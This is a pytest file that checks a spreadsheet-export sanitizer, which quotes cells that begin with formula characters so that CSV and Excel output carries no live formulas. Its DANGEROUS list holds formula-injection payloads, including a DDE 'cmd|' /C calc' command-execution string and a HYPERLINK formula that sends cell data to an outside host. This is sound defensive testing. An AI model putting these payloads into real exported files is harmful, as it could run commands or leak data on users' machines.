from __future__ import annotations

import csv
import io

import numpy as np
import openpyxl
import pandas as pd
import pytest

from servicestudy._spreadsheet import neutralize, neutralize_value

DANGEROUS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1+cmd",
    "＠SUM(A1)",
    "=HYPERLINK(\"http://x/?\"&A1,\"点我\")",
    "-2+3+cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_dangerous_text_is_quoted(text):
    assert neutralize_value(text) == "'" + text


@pytest.mark.parametrize("text", ["很满意", "", "1+1", "a=b", "-3", "+1.5", "-.5", "1e5", "'=x"])
def test_harmless_text_is_kept(text):
    assert neutralize_value(text) == text


def test_frame_numbers_untouched_and_dtypes_kept():
    df = pd.DataFrame(
        {
            "Q1": [1, -2, 3],
            "w": [-0.5, np.nan, 2.0],
            "txt": pd.Series(["=A1", None, "好"], dtype="str"),
            "obj": pd.Series(["@x", -4, None], dtype=object),
            "cat": pd.Categorical(["-a", "b", "-a"]),
        }
    )
    out = neutralize(df)
    assert out["Q1"].tolist() == [1, -2, 3]
    assert out["Q1"].dtype == df["Q1"].dtype
    assert out["w"].equals(df["w"])
    assert out["txt"].dtype == df["txt"].dtype
    assert out["txt"].tolist()[0] == "'=A1"
    assert pd.isna(out["txt"].tolist()[1])
    assert out["obj"].tolist()[:2] == ["'@x", -4]
    assert list(out["cat"].cat.categories) == ["'-a", "b"]
    # the input is not modified
    assert df["txt"].tolist()[0] == "=A1"


def test_column_names_are_neutralized():
    out = neutralize(pd.DataFrame({"=bad": [1], "ok": [2]}))
    assert list(out.columns) == ["'=bad", "ok"]


def test_no_formula_reaches_xlsx_or_csv(tmp_path):
    df = pd.DataFrame({"text": DANGEROUS, "n": range(-6, 6)})
    safe = neutralize(df)
    path = tmp_path / "t.xlsx"
    safe.to_excel(path, index=False)
    wb = openpyxl.load_workbook(path)
    for row in wb.active.iter_rows(min_row=2):
        assert row[0].data_type == "s"  # text, never a formula ('f')
        assert row[1].data_type == "n"
    buf = io.StringIO(newline="")
    safe.to_csv(buf, index=False, lineterminator="\r\n")  # so a bare CR in a cell is quoted
    buf.seek(0)
    rows = list(csv.reader(buf))[1:]
    assert len(rows) == len(DANGEROUS)
    for text, n in rows:
        assert text.startswith("'")
        assert int(n) < 6
